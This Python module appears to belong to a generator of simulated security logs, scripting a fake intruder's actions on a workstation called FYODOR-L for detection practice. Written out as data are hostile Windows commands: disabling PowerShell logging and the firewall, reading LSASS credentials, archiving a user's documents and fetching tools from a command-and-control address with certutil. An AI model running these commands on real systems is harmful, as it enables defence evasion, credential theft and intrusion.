"""FYODOR-L: what is done there once it is taken."""

from __future__ import annotations

from typing import TYPE_CHECKING

from preview.generator import clock, draw, programs
from preview.generator.attack import payloads, sessions
from preview.generator.attack.foothold import HOST, session
from preview.generator.facts import Connection, Process, Request
from preview.generator.internet import C2_ADDRESS, C2_NAME
from preview.generator.organisation import HOSTS

if TYPE_CHECKING:
    from preview.generator.event import Stories
    from preview.generator.scene import Scene

_TEMP = "C:\\Windows\\Temp\\"


def tell(scene: Scene) -> None:
    """Blind the host, read its secrets, pack its documents, scan, fetch tools."""
    elevated = session(scene, sessions.ELEVATED)
    system = session(scene, sessions.TASK)
    _blind_the_host(scene, elevated)
    _read_credentials(scene, system)
    _pack_documents(scene, system)
    _scan(scene, elevated)
    _fetch_tools(scene, elevated)
    _alert(scene)


def _blind_the_host(scene: Scene, elevated: Process) -> None:
    policy = "SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging"
    stories = ("script_block_logging_off",)
    time = clock.at("10:12:31.754")
    reg = scene.windows.start(
        elevated,
        time,
        programs.REG,
        f'"{programs.REG}" add HKLM\\{policy} /v EnableScriptBlockLogging /t REG_DWORD /d 0 /f',
        lifetime=0.2,
        stories=stories,
    )
    scene.windows.registry(
        reg,
        time + 0.08,
        (f"HKLM\\{policy}\\EnableScriptBlockLogging", "DWORD (0x00000000)"),
        stories,
    )
    scene.windows.script_block(
        elevated, clock.at("10:12:02.060"), payloads.AMSI_FAILS, ("amsi_bypass",), suspicious=True
    )
    scene.windows.start(
        elevated,
        clock.at("10:46:29.617"),
        programs.NETSH,
        f'"{programs.NETSH}" advfirewall set allprofiles state off',
        lifetime=0.9,
        stories=("firewall_off",),
    )
    firewall = scene.windows.running(
        HOST, programs.SVCHOST, programs.SVCHOST + " -k LocalServiceNoNetwork -p"
    )
    policies = "HKLM\\System\\CurrentControlSet\\Services\\SharedAccess\\Parameters\\FirewallPolicy"
    for profile in ("DomainProfile", "StandardProfile", "PublicProfile"):
        scene.windows.registry(
            firewall,
            clock.at("10:46:29.980"),
            (f"{policies}\\{profile}\\EnableFirewall", "DWORD (0x00000000)"),
            ("firewall_off",),
        )


def _read_credentials(scene: Scene, system: Process) -> None:
    lsass = scene.windows.running(HOST, programs.LSASS, programs.LSASS)
    for time in ("10:14:40.128", "10:14:40.391"):
        scene.windows.access(
            system,
            lsass,
            clock.at(time),
            ("0x1010", "UNKNOWN(00000259B2C41F85)"),
            ("lsass_access",),
        )
    scene.windows.script_block(
        system, clock.at("10:14:39.040"), payloads.CREDENTIALS, ("lsass_access",), suspicious=True
    )


def _pack_documents(scene: Scene, system: Process) -> None:
    time = clock.at("10:36:18.466")
    tar = scene.windows.start(
        system,
        time,
        programs.TAR,
        f'"{programs.TAR}" -cvf {_TEMP}archive.tar C:\\Users\\FyodorMalteskesko\\Documents',
        lifetime=21.4,
        stories=("archive",),
    )
    scene.windows.file(tar, time + 0.12, _TEMP + "archive.tar", ("archive", "rare_file"))


def _scan(scene: Scene, elevated: Process) -> None:
    rng = draw.stream("attack scan")
    scene.windows.file(
        elevated, clock.at("10:42:21.907"), programs.HDOOR, ("port_scan", "rare_file")
    )
    start = clock.at("10:43:10.482")
    scan = scene.windows.start(
        elevated,
        start,
        programs.HDOOR,
        f'"{programs.HDOOR}" -hbs 192.168.9.1-192.168.9.50 /b /m /n',
        lifetime=88,
        stories=("port_scan", "new_hash"),
    )
    for last in range(1, 51):
        for number, port in enumerate((22, 80, 135, 445, 3389, 8080)):
            scene.network.connect(
                Connection(
                    time=start + 1 + last * 1.6 + number * 0.2 + rng.uniform(0, 0.1),
                    source=elevated.host.inner,
                    source_port=rng.randrange(49152, 65536),
                    destination=f"192.168.9.{last}",
                    destination_port=port,
                    sent=66,
                    received=rng.choice((0, 54)),
                    duration=0.004,
                    process=scan,
                ),
                ("port_scan",),
            )


def _fetch_tools(scene: Scene, elevated: Process) -> None:
    stories = ("tool_download", "download_cradle")
    scene.windows.script_block(
        elevated, clock.at("10:47:05.377"), payloads.TOOLS, stories, suspicious=True
    )
    _fetch(scene, elevated, "10:47:06.041", "/images/logos.png", 5_780_000, stories)
    scene.windows.file(elevated, clock.at("10:48:58.713"), _TEMP + "logos.png", ("tool_download",))
    time = clock.at("10:51:12.290")
    certutil = scene.windows.start(
        elevated,
        time,
        programs.CERTUTIL,
        f'"{programs.CERTUTIL}" -urlcache -split -f http://{C2_ADDRESS}:3333/images/lsof.png '
        f"{_TEMP}unziped.zip",
        lifetime=6,
        stories=("system_tool_network",),
    )
    _fetch(scene, certutil, "10:51:12.810", "/images/lsof.png", 412_300, ("system_tool_network",))
    scene.windows.file(
        elevated, clock.at("10:53:40.008"), programs.IEXEPLORER, ("rare_file", "look_alike_name")
    )


def _fetch(
    scene: Scene, process: Process, time: str, path: str, size: int, stories: Stories
) -> None:
    agent = "Microsoft-CryptoAPI/10.0" if process.image == programs.CERTUTIL else ""
    scene.network.connect(
        Connection(
            time=clock.at(time),
            source=process.host.address,
            source_port=50504 if size > 1_000_000 else 50611,
            destination=C2_ADDRESS,
            destination_port=3333,
            sent=180,
            received=size,
            duration=112.0 if size > 1_000_000 else 4.2,
            name=C2_NAME,
            process=process,
            request=Request("GET", path, f"{C2_ADDRESS}:3333", agent, content_type="image/png"),
        ),
        stories,
    )


def _alert(scene: Scene) -> None:
    host = HOSTS[HOST]
    stories = ("malware_alert",)
    scene.protection.risk(
        host, clock.at("10:42:22.600"), "Hacktool", programs.HDOOR, "Left alone", stories
    )
    scene.protection.intrusion(
        host,
        clock.at("10:02:10.000"),
        "[SID: 30011] Attack: PowerShell Empire Request",
        C2_ADDRESS,
        "C:/WINDOWS/SYSTEM32/WINDOWSPOWERSHELL/V1.0/POWERSHELL.EXE",
        stories,
    )
